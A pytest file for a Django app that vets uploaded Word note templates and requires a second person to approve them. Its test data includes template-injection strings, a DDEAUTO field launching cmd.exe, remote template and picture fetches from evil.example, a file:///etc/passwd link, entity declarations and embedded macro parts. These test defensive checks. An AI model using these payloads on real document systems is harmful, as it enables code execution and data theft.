"""Templates made in Word: what is refused, and who lets one into use."""

from collections.abc import Callable
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError, transaction
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from accounts.models import User
from diplomacy.choices import TemplateState
from diplomacy.models import NoteTemplate
from diplomacy.paper.fields import NEEDED, field_names
from diplomacy.paper.house import house_template
from diplomacy.paper.inspection import inspect
from diplomacy.services.note_templates import approve_template, retire_template, upload_template
from tests.factories import NoteTemplateFactory, PostFactory, UserFactory

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BAD_FIELDS = {
    "{{ nobody }}": "no field “nobody”",
    "{{ number.__class__ }}": "no field “__class__”",
    "{{ ''.__class__.__mro__ }}": "no field",
    "{{ number|upper }}": "not: Filter",
    "{{ 9**9**9 }}": "not: Pow",
    "{{ 'a' * 99999999 }}": "not: Mul",
    "{{ persons[0] }}": "not: Getitem",
    "{{ number.format(1) }}": "not: Call",
    "{% for n in range(999999999) %}{% endfor %}": "Only simple loops",
    "{% set number = 1 %}": "not: Assign",
    "{% include 'other' %}": "not: Include",
    "{% macro x() %}{% endmacro %}": "not: Macro",
    "{% if number": "cannot be read",
}


def with_line(text: str) -> bytes:
    document = Document(BytesIO(house_template()))
    document.add_paragraph(text)
    return _saved(document)


def _saved(document: Any) -> bytes:
    kept = BytesIO()
    document.save(kept)
    return kept.getvalue()


def with_member(name: str, content: bytes) -> bytes:
    """The house's form with one more, or another, file in the archive."""
    made = BytesIO()
    with ZipFile(BytesIO(house_template())) as old, ZipFile(made, "w") as new:
        for member in old.namelist():
            if member != name:
                new.writestr(member, old.read(member))
        new.writestr(name, content)
    return made.getvalue()


def changed(name: str, change: Callable[[str], str]) -> bytes:
    with ZipFile(BytesIO(house_template())) as archive:
        return with_member(name, change(archive.read(name).decode()).encode())


def with_field(code: str) -> bytes:
    document = Document(BytesIO(house_template()))
    run = document.add_paragraph().add_run()
    for piece in (code[:4], code[4:]):  # Word parts what is typed into several runs
        text = OxmlElement("w:instrText")
        text.text = piece
        run._r.append(text)
    return _saved(document)


def outside(kind: str, target: str, quote: str = '"') -> bytes:
    relation = f'<Relationship Id="x1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    relation = relation.replace('"', quote)
    return changed(
        "word/_rels/document.xml.rels", lambda text: text.replace("</Relationships>", relation + "</Relationships>")
    )


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "macros": (lambda: with_member("word/vbaProject.bin", b"x"), "could run"),
    "embedded file": (lambda: with_member("word/embeddings/oleObject1.bin", b"x"), "could run"),
    "remote template in other quotes": (
        lambda: outside("attachedTemplate", "http://evil.example/a.dotm", quote="'"),
        "fetches something",
    ),
    "command under another prefix": (
        lambda: changed(
            "word/document.xml",
            lambda text: text.replace(
                "<w:sectPr", f'<w:p><x:r xmlns:x="{WORD}"><x:instrText>DDE a b</x:instrText></x:r></w:p><w:sectPr'
            ),
        ),
        "DDE",
    ),
    "another encoding": (
        lambda: changed("word/settings.xml", lambda text: text.replace("UTF-8", "cp037", 1)),
        "damaged",
    ),
    "entities": (
        lambda: changed("word/document.xml", lambda text: text.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>', 1)),
        "declares entities",
    ),
    "remote template": (lambda: outside("attachedTemplate", "http://evil.example/a.dotm"), "fetches something"),
    "remote picture": (lambda: outside("image", "http://evil.example/a.png"), "fetches something"),
    "link to a file": (lambda: outside("hyperlink", "file:///etc/passwd"), "fetches something"),
    "command": (lambda: with_field('DDEAUTO c:\\\\cmd.exe "/k calc"'), "DDEAUTO"),
    "included text": (lambda: with_field('INCLUDETEXT "http://evil.example"'), "INCLUDETEXT"),
    "foreign chunk": (
        lambda: changed("word/document.xml", lambda text: text.replace("<w:sectPr", '<w:altChunk r:id="x"/><w:sectPr')),
        "embeds something",
    ),
    "macro type": (
        lambda: changed("[Content_Types].xml", lambda text: text.replace("main+xml", "macroEnabled.main+xml")),
        "macros",
    ),
    "no document": (lambda: b"%PDF-1.7", "no Word document"),
    "empty": (lambda: b"", "no Word document"),
    "damaged": (lambda: changed("word/document.xml", lambda text: text[:500]), "damaged"),
    "too many parts": (
        lambda: _padded(),  # noqa: PLW0108  defined below
        "too large inside",
    ),
}


def _padded() -> bytes:
    made = BytesIO(house_template())
    with ZipFile(made, "a") as archive:
        for number in range(500):
            archive.writestr(f"word/media/{number}.png", b"")
    return made.getvalue()


def test_the_houses_own_form_passes() -> None:
    assert inspect(house_template()).against == []


@pytest.mark.parametrize("text", BAD_FIELDS)
def test_a_field_that_is_not_ours_is_refused_by_its_name(text: str) -> None:
    assert any(BAD_FIELDS[text] in said for said in inspect(with_line(text)).against)


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused(what: str) -> None:
    make, said = HOSTILE[what]
    assert any(said in sentence for sentence in inspect(make()).against), inspect(make()).against


def test_a_plain_link_is_no_harm() -> None:
    assert inspect(outside("hyperlink", "https://ministry.example/")).against == []


def test_fields_in_the_foot_are_looked_at_too() -> None:
    document = Document(BytesIO(house_template()))
    document.sections[0].footer.add_paragraph("{{ nobody }}")
    assert inspect(_saved(document)).against == ["There is no field “nobody”."]


@pytest.mark.parametrize("name", sorted(NEEDED))
def test_a_template_without_a_needed_place_is_refused(name: str) -> None:
    document = Document()
    for field in sorted(NEEDED - {name}):
        document.add_paragraph(f"{{% for one in {field} %}}{{{{ one }}}}{{% endfor %}}")
    assert any(name in said for said in inspect(_saved(document)).against)


def test_a_text_that_would_be_cut_is_noticed() -> None:
    document = Document()
    for field in ("number", "second_paragraphs", "persons", "remark"):
        document.add_paragraph(f"{{% if {field} %}}x{{% endif %}}")
    document.add_paragraph("{% for one in paragraphs %}{% if loop.first %}{{ one }}{% endif %}{% endfor %}")
    assert inspect(_saved(document)).against == ["Filled in, it does not show the whole text."]


def test_every_field_of_the_page_is_one_of_the_template() -> None:
    assert field_names() >= NEEDED


@pytest.fixture
def keeper(db: None) -> User:
    return UserFactory.create(admin=True)


def upload(by: User, content: bytes | None = None) -> NoteTemplate:
    file = SimpleUploadedFile("form.docx", house_template() if content is None else content)
    return upload_template(by=by, name="Form", language="en", upload=file)


def test_an_uploaded_template_waits_for_a_second_person(keeper: User) -> None:
    template = upload(keeper)
    assert (template.state, template.size) == (TemplateState.WAITING, len(house_template()))
    with pytest.raises(PermissionDenied):
        approve_template(template, by=keeper)
    approved = approve_template(template, by=UserFactory.create(supervisor=PostFactory.create()))
    assert approved.is_in_use


def test_a_caseworker_neither_uploads_nor_approves_nor_retires(officer: User, keeper: User) -> None:
    verbs: list[Callable[[], Any]] = [
        lambda: upload(officer),
        lambda: approve_template(NoteTemplateFactory.create(), by=officer),
        lambda: retire_template(NoteTemplateFactory.create(), by=officer),
    ]
    for verb in verbs:
        with pytest.raises(PermissionDenied):
            verb()


def test_a_hostile_template_is_not_kept(keeper: User) -> None:
    with pytest.raises(ValidationError, match="no field"):
        upload(keeper, with_line("{{ nobody }}"))
    assert not NoteTemplate.objects.exists()


def test_the_same_file_is_kept_once(keeper: User) -> None:
    upload(keeper)
    with pytest.raises(ValidationError, match="uploaded already"):
        upload(keeper)


def test_the_file_of_a_template_never_changes(keeper: User) -> None:
    template = upload(keeper)
    with pytest.raises(DatabaseError, match="note_template_file_stays"), transaction.atomic():
        NoteTemplate.objects.filter(pk=template.pk).update(sha256="0" * 64)


def test_a_retired_template_is_not_approved_again(keeper: User) -> None:
    template = retire_template(NoteTemplateFactory.create(approved=True), by=keeper)
    with pytest.raises(ValidationError, match="does not wait"):
        approve_template(template, by=keeper)


def test_the_boxes_of_word_are_all_there() -> None:
    """The house's form has the marks of a table with one column for each fact."""
    body = Document(BytesIO(house_template())).element.body
    assert len(list(body.iter(qn("w:tbl")))) == 2
